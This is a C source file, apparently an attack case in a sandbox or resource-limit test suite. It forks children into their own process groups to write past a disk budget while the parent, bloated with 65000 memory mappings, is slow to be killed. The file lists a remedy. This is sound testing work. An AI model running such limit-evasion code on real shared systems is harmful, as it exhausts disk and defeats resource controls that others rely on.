// SPDX-License-Identifier: MIT
/*
 * slow-parent.c - the program is being killed, its children write on.
 *
 * Goal:  more bytes on disk than the budget.
 * Means: eight children, in groups of their own, write at once. The first megabytes are seen, and
 *        the program is killed for them; but it has 65000 areas, and takes tens of milliseconds to
 *        give them back. Who waits for its end before the children's turn waits too long.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

enum { FILES = 8, MIB = 12, AREAS = 65000 };

static char block[1 << 20];

static _Noreturn void pour(int fd, int gate)
{
	char byte;

	setpgid(0, 0);
	while (read(gate, &byte, 1) < 0)
		continue;
	for (int i = 0; i < MIB; i++)
		if (write(fd, block, sizeof(block)) != sizeof(block))
			_exit(errno);
	sleep(3);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	const char *dir = getenv("TMPDIR");
	int gate[2];
	char name[16], *range;

	if (chdir(dir ? dir : "/tmp") || pipe(gate))
		return failed("pipe");
	for (size_t at = 0; at < sizeof(block); at += 4096)
		block[at] = 'x';
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		pid_t child;
		int fd;

		snprintf(name, sizeof(name), "part-%d", i);
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0)
			return denied("open");
		child = fork();
		if (child < 0)
			return denied("fork");
		if (child == 0) {
			close(gate[1]);
			pour(fd, gate[0]);
		}
		close(fd);
	}
	range = mmap(NULL, AREAS * 4096l, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE,
		     -1, 0);
	for (long i = 0; i < AREAS && range != MAP_FAILED; i += 2)
		mprotect(range + i * 4096, 4096, PROT_READ);
	usleep(100000);
	close(gate[1]);
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "children in groups of their own write while the program, large, is being killed",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "kill all processes of the run at once, not the first one and its group; a quota",
	.refs = (const char *const[]){ "kill(2)", NULL },
	.run = run,
};
